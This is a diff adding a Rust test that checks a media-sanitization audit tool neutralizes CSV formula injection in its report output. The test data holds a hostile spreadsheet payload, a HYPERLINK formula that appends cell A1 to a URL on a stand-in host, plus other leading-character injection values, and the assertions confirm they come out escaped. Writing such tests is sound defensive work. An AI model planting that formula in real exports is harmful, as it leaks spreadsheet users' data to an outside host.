@@ -1090,3 +1090,59 @@ fn a_report_never_overwrites_evidence_never_lands_in_an_input_and_never_follows_
         .unwrap()
         .contains("covered"));
 }
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralized() {
+    let env = Env::new();
+    // A drive whose firmware (or whoever typed it) gave a serial that is a formula.
+    let evil = "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")";
+    assert_code(
+        &mediasan!(
+            env,
+            "destroyed",
+            "--serial",
+            evil,
+            "--asset-tag",
+            "+A-1",
+            "--method",
+            "shred",
+            "--facility",
+            "@Shred",
+            "--witness=-W",
+            "--operator",
+            "J",
+            "--cert-dir",
+            "c"
+        ),
+        0,
+    );
+    env.trust_default_key();
+    std::fs::write(
+        env.path("assets.csv"),
+        "serial,asset_tag,Rack\n-5,@T,\"\tr1\"\n",
+    )
+    .unwrap();
+    let out = mediasan!(
+        env,
+        "audit",
+        "c",
+        "--assets",
+        "assets.csv",
+        "--csv",
+        "r.csv"
+    );
+    assert_code(&out, 1);
+    let mut r = csv::Reader::from_path(env.path("r.csv")).unwrap();
+    let mut cells: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
+    for row in r.records() {
+        cells.extend(row.unwrap().iter().map(String::from));
+    }
+    for c in &cells {
+        assert!(
+            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a spreadsheet would run {c:?}: {cells:?}"
+        );
+    }
+    assert!(cells.iter().any(|c| c == &format!("'{evil}")), "{cells:?}");
+    assert!(cells.iter().any(|c| c == "'-5"), "{cells:?}");
+}
